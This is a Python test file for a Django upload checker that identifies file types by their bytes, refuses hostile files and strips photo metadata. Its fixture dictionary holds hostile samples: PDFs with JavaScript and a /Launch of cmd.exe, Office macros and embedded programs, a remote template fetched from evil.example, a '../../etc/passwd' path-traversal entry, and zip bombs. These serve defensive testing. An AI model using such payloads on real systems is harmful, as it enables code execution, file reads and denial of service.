"""What may be uploaded is told by the bytes, and a photograph tells nothing but its picture. (SAFETY P-44, P-53)"""

import struct
import zipfile
from contextlib import suppress
from unittest import mock

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from grundsteget import packed
from participants import evidence, images
from participants.evidence import DOCUMENTS, DOCX, JPG, OFFICE, PNG, SCANS, XLSX, checked
from tests.participants import files


def check(content: bytes, name: str = "file.bin", kinds=DOCUMENTS) -> evidence.Upload:
    return checked(SimpleUploadedFile(name, content), kinds)


def refusal_of(content: bytes, name: str = "file.pdf", kinds=DOCUMENTS) -> str:
    with pytest.raises(ValidationError) as refusal:
        check(content, name, kinds)
    return str(refusal.value.message)


# --- What is taken --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "content"),
    [
        ("pdf", files.PDF),
        ("jpg", files.jpeg()),
        ("png", files.png()),
        ("docx", files.office()),
        ("xlsx", files.office(XLSX)),
    ],
)
@pytest.mark.parametrize("name", ["paper", "paper.exe", "paper.pdf", "paper.jpg"])
def test_kind_is_told_by_the_bytes_and_not_by_the_name(kind, content, name):
    upload = check(content, name)
    assert upload.kind == kind
    assert upload.file.name == f"upload.{kind}"
    assert upload.content == content


def test_scans_leave_word_and_excel_out():
    with pytest.raises(ValidationError):
        check(files.office(), kinds=SCANS)


def test_refusal_says_which_kinds_are_taken_and_how_large(settings):
    settings.UPLOAD_MAX_MB = 7
    sentence = refusal_of(b"plain words")
    for word in ("PDF", "JPG", "PNG", "DOCX", "XLSX", "7"):
        assert word in sentence


# --- What is not ----------------------------------------------------------------------------------

MACROS = f"{OFFICE}".replace("vnd.openxmlformats-officedocument", "vnd.ms-word.document.macroEnabled") + ".main+xml"

HOSTILE = {
    "nothing": b"",
    "plain text": b"Hej",
    "page as PDF": b"<html><script>alert(1)</script>",
    "page before a PDF": b"<html>" + files.PDF,
    "archive behind a PDF": files.PDF + files.office(),
    "half a PDF": files.PDF[:30],
    "program": b"MZ\x90\x00" + b"\0" * 100,
    "drawing with scripts": b"<svg xmlns='http://www.w3.org/2000/svg'/>",
    "old Word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100,
    "script in a PDF": files.PDF.replace(b"/Type", b"/S /JavaScript /JS (app.alert(1)) /Type"),
    "hidden script in a PDF": files.PDF.replace(b"/Type", b"/S /J#61va#53cript /Type"),
    "program started by a PDF": files.PDF.replace(b"/Type", b"/S /Launch /F (cmd.exe) /Type"),
    "JPEG that is a word": b"\xff\xd8\xff" + b"hello" * 20,
    "half a JPEG": files.jpeg()[:-8],
    "JPEG without a picture": b"\xff\xd8" + files.segment(0xE0, b"JFIF\0\x01\x01\0\0\x48\0\x48\0\0") + b"\xff\xd9",
    "huge JPEG": files.jpeg(size=(65000, 65000)),
    "PNG that is a word": b"\x89PNG\r\n\x1a\n" + b"hello" * 20,
    "half a PNG": files.png()[:-6],
    "PNG with a wrong checksum": files.png()[:-1] + b"\0",
    "huge PNG": files.png(size=(2**31 - 1, 2**31 - 1)),
    "any archive": b"PK\x03\x04" + b"\0" * 40,
    "archive without its list": files.office(parts={}).replace(b"[Content_Types].xml", b"[Content_Tipes].xml"),
    "macros": files.office(parts={"word/vbaProject.bin": b"x"}),
    "macros by another case": files.office(parts={"word/VBAPROJECT.BIN": b"x"}),
    "macros by its type": files.office(content_type=MACROS),
    "embedded program": files.office(parts={"word/embeddings/oleObject1.bin": b"x"}),
    "links to other workbooks": files.office(XLSX, parts={"xl/externalLinks/externalLink1.xml": b"x"}),
    "template from the net": files.office(
        parts={
            "word/_rels/settings.xml.rels": b'<Relationship Id="1" Type="http://x/attachedTemplate" '
            b'Target="https://evil.example/a.dotm" TargetMode="External"/>'
        }
    ),
    "a path out of the archive": files.office(parts={"../../etc/passwd": b"x"}),
    "a bomb": files.office(parts={"word/media/a.xml": bytes(evidence.MOST_UNPACKED + 1)}),
    "a bomb that lies": files.lying(files.office(parts={"word/media/a.xml": bytes(5_000_000)}), "word/media/a.xml", 10),
    "very many parts": files.office(parts={f"word/{number}.xml": b"" for number in range(evidence.MOST_PARTS)}),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_are_refused_in_words(name):
    with mock.patch.object(zipfile.ZipFile, "extractall", side_effect=AssertionError):
        assert refusal_of(HOSTILE[name]).endswith(".")


def test_bombs_are_counted_while_unpacking_whatever_they_declare(monkeypatch):
    monkeypatch.setattr(evidence, "MOST_UNPACKED", 1000)
    monkeypatch.setattr(packed, "_check_list", lambda entries, limits: None)
    assert check(files.office(parts={"word/a.xml": bytes(500)})).kind == DOCX
    assert refusal_of(files.office(parts={"word/a.xml": bytes(5000)})) == evidence._too_much().message


class Unreadable:
    """A file that says how large it is, and must not be read."""

    size = 1024 * 1024 + 1

    def read(self):
        raise AssertionError


def test_too_large_is_refused_before_it_is_read(settings):
    settings.UPLOAD_MAX_MB = 1
    with pytest.raises(ValidationError):
        checked(Unreadable(), DOCUMENTS)


# --- Photographs ----------------------------------------------------------------------------------

SECRET = b"N 57.7089 E 11.9746"


@pytest.mark.parametrize(
    "photograph",
    [
        files.jpeg(files.segment(0xE1, files.exif())),
        files.jpeg(files.segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + SECRET)),
        files.jpeg(files.segment(0xED, b"Photoshop 3.0\0" + SECRET)),
        files.jpeg(files.segment(0xFE, SECRET)),
        files.jpeg(files.segment(0xE2, b"MPF\0" + SECRET)),
        files.jpeg(files.segment(0xE0, b"JFXX\0" + SECRET)),
        files.jpeg(behind=SECRET),
        files.png(files.chunk(b"eXIf", SECRET)),
        files.png(files.chunk(b"tEXt", b"Comment\0" + SECRET)),
        files.png(files.chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + SECRET)),
        files.png(files.chunk(b"tIME", SECRET)),
        files.png(behind=b"PK\x03\x04" + SECRET),
    ],
    ids=["exif", "xmp", "iptc", "comment", "second picture", "thumbnail", "behind", *["png"] * 5],
)
def test_photographs_tell_nothing_but_the_picture(photograph):
    assert SECRET in photograph
    bare = check(photograph).content
    assert SECRET not in bare
    # What is bare stays as it is: a second upload is the same file.
    assert check(bare).content == bare


def test_the_picture_itself_is_untouched_and_so_are_its_colours():
    colours = files.segment(0xE2, b"ICC_PROFILE\0\x01\x01colours"), files.segment(0xEE, b"Adobe\0d\0\0\0\0\x01")
    assert check(files.jpeg(*colours)).content == files.jpeg(*colours)
    assert check(files.png(files.chunk(b"gAMA", bytes(4)))).content == files.png(files.chunk(b"gAMA", bytes(4)))


@pytest.mark.parametrize("orientation", range(1, 9))
def test_which_way_up_a_photograph_is_stays_known(orientation):
    bare = images.bare_jpeg(files.jpeg(files.segment(0xE1, files.exif(orientation))))
    kept = [content for marker, content, _ in images._segments(bare) if marker == images.APP1]
    assert [images._orientation(content[6:]) for content in kept] == ([orientation] if orientation > 1 else [])


@pytest.mark.parametrize(
    "tiff",
    [
        b"",
        b"II",
        b"XX*\0" + bytes(20),
        b"II*\0" + struct.pack("<I", 2**32 - 1),
        b"MM\0*" + struct.pack(">IH", 8, 65535),
        b"II*\0" + struct.pack("<IHHHIH", 8, 1, 0x0112, 3, 1, 99),
    ],
)
def test_broken_exif_is_dropped_and_the_photograph_kept(tiff):
    assert images.bare_jpeg(files.jpeg(files.segment(0xE1, b"Exif\0\0" + tiff))) == files.jpeg()


@pytest.mark.parametrize("kind", [JPG, PNG, DOCX, "pdf"])
def test_no_cut_and_no_flipped_bit_is_a_crash(kind):
    """Whatever is done to a good file, it is taken or refused."""
    whole = {
        JPG: files.jpeg(files.segment(0xE1, files.exif())),
        PNG: files.png(),
        DOCX: files.office(),
        "pdf": files.PDF,
    }
    good = whole[kind]
    for place in range(len(good)):
        for content in (good[:place], good[:place] + bytes([good[place] ^ 0xFF]) + good[place + 1 :]):
            with suppress(ValidationError):
                check(content)
